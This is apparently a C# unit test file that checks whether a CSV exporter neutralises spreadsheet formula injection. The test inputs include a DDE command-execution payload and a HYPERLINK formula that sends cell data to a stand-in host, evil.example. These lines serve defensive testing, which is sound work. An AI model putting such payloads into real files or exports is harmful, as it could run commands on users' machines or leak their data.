using Celadon.Server.Web;

namespace Celadon.Tests.Server.Safety;

/// <summary>What is somebody's text in a file for spreadsheets stays text there.</summary>
public sealed class SpreadsheetTests
{
    public static TheoryData<string> Formulas =>
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example?\"&A1)", "＝1+1", "＋1", "－1", "＠SUM(A1)",
        " =1+1", "\u00a0=1+1",
        "\u3000=1+1", "\u200b=1+1",
    ];

    [Theory, MemberData(nameof(Formulas))]
    public void A_formula_is_defused_in_cells_and_in_heads(string formula)
    {
        var table = new Table("t", "", [new("what", ""), new(formula, "")],
            [Row.Of(new Words(formula), new Words(formula + ",\"x\""))]);
        var lines = Read(Twins.Csv(table));
        Assert.All((string[])[lines[0][1], lines[1][0], lines[1][1]], cell =>
            Assert.StartsWith("'", cell, StringComparison.Ordinal));
        Assert.Equal(formula.TrimStart('\''), lines[1][0].TrimStart('\''));
    }

    [Theory]
    [InlineData("natural gas")]
    [InlineData("CO₂ = 1")]
    [InlineData("a@b")]
    [InlineData("2026-09")]
    [InlineData("")]
    [InlineData("–")]
    public void Plain_words_stay_as_they_are(string words) => Assert.Equal(words,
        Read(Twins.Csv(new Table("t", "", [new("a", "")], [Row.Of(new Words(words))])))[1][0]);

    [Fact]
    public void Our_own_numbers_stay_numbers()
    {
        var table = new Table("t", "", [new("a", "")],
            [Row.Of(new Plain(Celadon.Quantities.Amount.Parse("-12.5")))]);
        Assert.Equal("-12.5", Read(Twins.Csv(table))[1][0]);
    }

    /// <summary>RFC 4180, as a spreadsheet reads it.</summary>
    private static List<List<string>> Read(string csv)
    {
        var (rows, cell, quoted) = (new List<List<string>> { new() }, new System.Text.StringBuilder(), false);
        for (var i = 0; i < csv.Length; i++)
        {
            if (quoted && csv[i] == '"' && i + 1 < csv.Length && csv[i + 1] == '"') cell.Append(csv[i++]);
            else if (csv[i] == '"') quoted = !quoted;
            else if (!quoted && csv[i] == ',') End();
            else if (!quoted && csv[i] == '\r' && csv[i + 1] == '\n')
            {
                End();
                rows.Add([]);
                i++;
            }
            else cell.Append(csv[i]);
        }
        return rows;

        void End()
        {
            rows[^1].Add(cell.ToString());
            cell.Clear();
        }
    }
}
